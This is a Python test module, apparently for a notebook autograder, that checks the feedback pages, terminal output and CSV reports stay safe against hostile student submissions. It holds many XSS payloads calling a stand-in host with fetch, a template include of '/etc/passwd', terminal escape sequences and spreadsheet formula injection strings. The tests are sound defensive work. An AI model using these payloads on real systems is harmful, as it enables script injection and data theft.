"""Attacks 47 to 50: on whoever looks at a submission after it was graded.

A hostile notebook is graded by the command line, stock nbgrader makes its feedback, and
a real browser opens every page.
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
import unicodedata
from concurrent.futures import ThreadPoolExecutor

import nbformat
import numpy as np
import pytest
from nbformat.v4 import new_markdown_cell

from classroom.forgeries import WRONG
from classroom.submissions import hand_in, submission
from tests.autograder.attacks.conftest import about
from tests.autograder.conftest import TOPIC, code_cell
from tests.autograder.grading.test_grade import nbgrader
from tools.chromium import headless_chromium

EVIL = "http://evil.invalid"
LAST = "http://last.invalid/picture"
RUN = f"window.pwned=1;fetch('{EVIL}/fetched');alert(1)"
MARKUP = [
    f"<script>{RUN}</script>",
    f'<img src="{EVIL}/image.png" onerror="{RUN}">',
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>',
    f'<iframe src="{EVIL}/frame" srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<link rel="stylesheet" href="{EVIL}/s.css"><style>@import "{EVIL}/s.css"</style>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/away">',
    f'<base href="{EVIL}/"><object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    f'<body onload="{RUN}"><details open ontoggle="{RUN}"><video src="{EVIL}/v">',
    f"</pre></code></textarea></title></style></script><script>{RUN}</script>",
    f"]]>--><script>{RUN}</script><!--",
    f"![picture]({EVIL}/remote.png) [link](javascript:{RUN}) <javascript:{RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ \\begin{{a}}<script>{RUN}</script>\\end{{a}}",
    f"$$<script>{RUN}</script>$$ `<b>` ```html\n<script>{RUN}</script>\n```",
    f"x\x0b<script>{RUN}</script>\x0c\u2028<script>{RUN}</script>\r<script>{RUN}",
    f"\n\n\n<script>{RUN}</script>\n\n\tx\n\n<p onclick=1>\n\n1. <script>{RUN}",
    f"<script>{RUN}</script>".replace("<", "\uff1c"),
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
]
TERMINAL = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b31m\x1bc\r\b\u202edlrow\u2066\x00"
SHOW = f"""
from IPython.display import *
markup = {MARKUP!r}
for text in markup:
    display(HTML(text), SVG('<svg xmlns="http://www.w3.org/2000/svg"/>'))
    display(Javascript({RUN!r}), Markdown(text), Latex(text))
    for kind in ('text/html', 'text/markdown', 'text/latex', 'image/svg+xml',
                 'application/javascript', 'application/json', 'application/pdf',
                 'application/vnd.jupyter.widget-view+json', 'text/vnd.mermaid',
                 'application/vnd.vegalite.v5+json', 'application/x-evil'):
        display({{kind: text, 'text/plain': text}}, raw=True)
    print(text)
display({{'image/png': 'aGVsbG8='}}, raw=True)
display({{'image/png': '"><script>{RUN}</script>'}}, raw=True)
display({{'image/jpeg': '"><script>{RUN}</script>', 'text/plain': 1}}, raw=True)
"""
SAY = f"import sys\nprint({TERMINAL!r})\nsys.stderr.write({TERMINAL!r})"
FAIL = f"""
Evil = type({MARKUP[0]!r}, (Exception,), {{}})
raise Evil({(MARKUP[1] + TERMINAL)!r})
"""
ANSWERS = f"""
markup = {[*MARKUP, TERMINAL]!r}
calls = []
def softmax(scores):
    calls.append(1)
    if len(calls) % 3 == 0:
        return {{text * 99: scores for text in markup}}
    if len(calls) % 3 == 1:
        raise ValueError(markup[len(calls) % len(markup)] + markup[-1])
    return markup
"""


def hostile(attacking):
    data = attacking(ANSWERS, cells=[SHOW, SAY, FAIL], attend=FAIL)
    for text in MARKUP:
        data["cells"].append(new_markdown_cell(text))
        data["cells"].append(code_cell(f"# {text}\n'''{text}'''"))
        raw = new_markdown_cell(text)
        raw["cell_type"] = "raw"
        raw["metadata"]["raw_mimetype"] = "text/html"
        data["cells"].append(raw)
    attached = new_markdown_cell("![x](attachment:x.svg)")
    attached["attachments"] = {"x.svg": {"image/svg+xml": MARKUP[2]}}
    data["cells"].append(attached)
    data["cells"].append(new_markdown_cell(TERMINAL))
    data["metadata"]["title"] = MARKUP[0]
    data["metadata"]["widgets"] = {"x": MARKUP[0]}
    data["metadata"]["language_info"] = {"name": MARKUP[0], "pygments_lexer": MARKUP[0]}
    return data


def huge(attacking):
    data = attacking(
        WRONG + "# \U0001f600" * 30_000,
        cells=[
            "from IPython.display import display\n"
            "for n in range(3000):\n"
            "    display({'text/plain': '\U0001f600' * 500}, raw=True)",
            "print('\\0\x01' * 10**6)",
            "import base64\n"
            "head = b'\\x89PNG\\r\\n\\x1a\\n\\0\\0\\0\\rIHDR'\n"
            "def png(w, h, n):\n"
            "    raw = head + w.to_bytes(4) + h.to_bytes(4) + bytes(n)\n"
            "    display({'image/png': base64.b64encode(raw).decode()}, raw=True)\n"
            "for n in range(9): png(100, 100, 10**6)\n"
            "png(10**9, 10**9, 9)",
        ],
    )
    data["cells"] += [code_cell("'\U0001f600'" * 9000) for _ in range(40)]
    return data


# Each took nbgrader's own page the square of its length, or more, somewhere: in the
# colours of code, in markdown, in the links that are rewritten, in terminal colours.
SLOW = (
    *(" \n", "\u3000\n", "\n", "a.", "1.", "*", "`", "[", "[](files/", "> ", "- "),
    *("|a", "<a ", "<!--", "$$", "\\begin{a}", "\\", "\x1b[1m", "(", "'''", "f'{"),
    *("!$((", "%%html\n<"),
)


def slow_to_show(attacking):
    """As long as may be, so that the next in the class would be held up."""
    data = attacking()
    for piece in SLOW:
        text = (piece * 14_000)[:14_000]
        data["cells"] += [code_cell(f"1{text}"), new_markdown_cell(f"x{text}")]
    for _ in range(5):
        blanks = "\u3000" * 90_000
        data["cells"] += [code_cell(f"x = 1{blanks}"), new_markdown_cell(blanks)]
    return data


STUDENTS = {
    "honest": "honest",
    "a slow one": "slow",
    "hostile": "hostile",
    "huge": "huge",
    "=cmd|' calc'!A0": "a formula",
    '"><img src=x onerror=alert(1)>': "markup",
    "+1,-2;@sum\u202e": "more",
}


@pytest.fixture(scope="module")
def graded(needs_sandbox, released_course, tmp_path_factory, attacking, master):
    """The course, and what the command line said."""
    course = tmp_path_factory.mktemp("shown") / "course"
    shutil.copytree(released_course, course)
    blank = submission(master, {})
    students = dict.fromkeys(STUDENTS, blank)
    students |= {"honest": attacking(), "a slow one": slow_to_show(attacking)}
    students |= {"hostile": hostile(attacking), "huge": huge(attacking)}
    hand_in(course, TOPIC, students)
    stamp = course / "submitted" / "hostile" / TOPIC / "timestamp.txt"
    stamp.write_text(TERMINAL + MARKUP[0], encoding="utf-8")
    (course / "submitted" / f"folder {TERMINAL[:-1]}").mkdir()
    done = subprocess.run(
        [sys.executable, "-m", "autograder", "grade", TOPIC, "--course", str(course)],
        capture_output=True,
    )
    assert done.returncode == 0, done.stderr.decode()
    return course, done.stdout + done.stderr


@pytest.fixture(scope="module")
def shown(graded):
    """The course after nbgrader's own feedback and the class report were made."""
    from autograder.handback.lms_tables import write_lms_tables
    from autograder.marks.reports import read_reports
    from autograder.reporting.classreport import write_class_report

    course, _ = graded
    nbgrader(course, "generate_feedback", TOPIC)
    report = read_reports(course, TOPIC)
    written = write_class_report(course, report) | write_lms_tables(course, report)[0]
    return course, written


def report(course, student):
    path = course / "reports" / TOPIC / f"{student}.json"
    return json.loads(path.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def visits(shown, needs_chromium):
    """What a browser did with the feedback pages and the class report."""
    course, written = shown
    pages = {s: course / "feedback" / s / TOPIC / f"{TOPIC}.html" for s in STUDENTS}
    pages["class report"] = next(p for p in written.values() if p.suffix == ".html")

    def look():
        with headless_chromium() as browser:
            for name, path in pages.items():
                with browser.new_context() as context:
                    yield name, visit(context, path)

    # Playwright keeps the thread in which it runs from running anything asynchronous.
    with ThreadPoolExecutor(1) as thread:
        return thread.submit(lambda: dict(look())).result()


def visit(context, path):
    happened = {"requests": [], "dialogs": [], "errors": []}

    def request(route):
        if route.request.url.startswith("file:"):
            route.continue_()
        else:
            if route.request.url != LAST:
                happened["requests"].append(route.request.url)
            route.abort()

    def dialog(shown):
        happened["dialogs"].append(shown.message)
        shown.dismiss()

    context.route("**/*", request)
    tab = context.new_page()
    tab.on("dialog", dialog)
    tab.on("pageerror", lambda error: happened["errors"].append(str(error)))
    tab.goto(path.as_uri(), wait_until="load")
    for target in tab.query_selector_all("a[href^='javascript']"):
        target.click(force=True, no_wait_after=True)
    # What the page and these clicks have asked for is asked before this.
    tab.evaluate(
        f"""() => new Promise(done => {{
          const last = new Image();
          last.onerror = () => setTimeout(done);
          last.src = "{LAST}";
        }})"""
    )
    happened["pwned"] = tab.evaluate("window.pwned ?? null")
    happened["text"] = tab.evaluate("document.body.innerText")
    happened["active"] = tab.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap(e =>
          [...e.attributes].filter(a => /^on/i.test(a.name)
            || /^\\s*javascript:/i.test(a.value)
            || (/^(src|href|data|srcdoc|action)$/i.test(a.name)
                && /evil\\.invalid/.test(a.value))).map(a => a.name + '=' + a.value))"""
    )
    happened["formulas"] = tab.evaluate(
        """() => {
          const found = [], walk = document.createTreeWalker(document.body, 4);
          while (walk.nextNode()) {
            const inside = walk.currentNode.parentElement;
            if (/javascript:/.test(walk.currentNode.data)
                && !inside.closest('pre, code, .tex2jax_ignore, script, style'))
              found.push(walk.currentNode.data);
          }
          return found;
        }"""
    )
    return happened


def test_47_no_page_runs_or_loads_anything_of_a_student(visits):
    usual = visits["honest"]["requests"]  # what nbgrader's own page asks for
    for name, happened in visits.items():
        assert happened["pwned"] is None, name
        assert happened["dialogs"] == [], name
        assert happened["active"] == [], name
        assert happened["formulas"] == [], name  # may hold a script
        assert set(happened["requests"]) <= set(usual), name
        assert (
            happened["errors"] == visits["honest"]["errors"] or name == "class report"
        )
    assert visits["class report"]["requests"] == []
    assert visits["class report"]["errors"] == []


def test_the_page_of_everybody_is_made_and_usual_code_has_its_colours(shown):
    course, _ = shown
    pages = {s: course / "feedback" / s / TOPIC / f"{TOPIC}.html" for s in STUDENTS}
    texts = {name: path.read_text(encoding="utf-8") for name, path in pages.items()}
    assert all("points" in text for text in texts.values())
    assert '<span class="k">def</span>' in texts["honest"]
    assert report(course, "a slow one")["score"] > 0


def test_47_what_a_student_wrote_can_still_be_read(visits):
    text = visits["hostile"]["text"]
    assert "evil.invalid/image.png" in text
    assert "points" in text


def test_47_only_text_and_real_pictures_are_kept_and_not_too_many(graded):
    course, _ = graded
    for student in ("hostile", "huge"):
        path = course / "autograded" / student / TOPIC / f"{TOPIC}.ipynb"
        assert path.stat().st_size < 5e6
        notebook = nbformat.read(path, as_version=4)
        nbformat.validate(notebook)
        assert set(notebook.metadata) <= {
            "kernelspec",
            "language_info",
            "attention_from_scratch",
        }
        for cell in notebook.cells:
            assert cell.cell_type in ("code", "markdown")
            assert "attachments" not in cell
            if "check" in cell.metadata.get("tags", []):
                continue
            for output in cell.get("outputs", []):
                assert set(output.get("data", {})) <= {"text/plain", "image/png"}


def controls(text):
    """Characters that a terminal acts on, or that turn the reading direction."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs")} - set(
        "\n"
    )


def test_48_the_command_line_prints_no_escapes(graded):
    _, said = graded
    text = said.decode("utf-8")
    assert controls(text.replace("\r", "")) <= set("\t"), controls(text)


def test_48_no_report_table_or_page_holds_escapes(graded, shown):
    course, _ = graded
    for path in shown[1].values():
        if path.is_file():
            assert controls(path.read_text(encoding="utf-8").replace("\r", "")) == set()

    def texts(value):
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for item in value.values():
                yield from texts(item)
        elif isinstance(value, list):
            for item in value:
                yield from texts(item)

    for student in ("hostile", "huge"):
        for text in texts(report(course, student)):
            assert controls(text) == set(), text
            assert len(text) < 2000


def test_49_no_cell_of_a_table_is_a_formula(shown):
    _, written = shown
    tables = [path for path in written.values() if path.suffix == ".csv"]
    assert tables
    for path in tables:
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                    assert not cell.startswith("-") or _is_number(cell), cell


def _is_number(text):
    try:
        return np.isfinite(float(text))
    except ValueError:
        return False


TELLTALES = {
    "a name": "    return {str(scores.ravel()[0]): scores}",
    "zeros": "    return scores * 0",
}


@pytest.mark.usefixtures("asked_the_same")
@pytest.mark.parametrize("body", TELLTALES.values(), ids=TELLTALES)
def test_50_no_input_expected_value_or_size_of_an_error_is_told(
    examination, attacking, expected, topic, body
):
    """But for the words of an error of their own: seeds are drawn anew each time."""
    done = examination(attacking(f"def softmax(scores):\n{body}"))
    text, said = (
        json.dumps(done.report) + nbformat.writes(done.notebook),
        about(done.report),
    )
    for answer in expected["softmax"].reference:
        values = answer.value if isinstance(answer.value, list) else [answer.value]
        arrays = [value for value in values if isinstance(value, np.ndarray)]
        for number in (n for array in arrays for n in np.ravel(array)[:20]):
            assert not 0 < abs(number) < 1 or f"{number:.6f}" not in text
    seen = []
    for case, seed in zip(
        topic.exercises["softmax"].cases, expected["softmax"].seeds, strict=True
    ):
        case.run(
            lambda scores: seen.append(np.asarray(scores)), np.random.default_rng(seed)
        )
    numbers = np.concatenate([np.ravel(array) for array in seen]).astype(float)
    assert len(numbers) > 5
    for number in numbers:
        if number != round(number):
            assert str(number)[:6] not in said
    assert "largest" not in said
